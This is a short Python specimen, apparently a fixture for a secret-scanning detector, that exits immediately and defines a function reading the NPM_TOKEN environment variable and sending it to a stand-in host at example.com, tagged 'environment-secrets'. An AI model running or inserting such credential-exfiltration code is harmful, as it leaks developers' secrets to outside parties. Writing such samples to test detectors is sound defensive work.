raise SystemExit("specimen: not to be run")
from os import environ as e
from urllib.request import urlopen as go

def tell():
    key = e.get("NPM_TOKEN")
    go("https://example.com/in?k=" + key)  # match: environment-secrets
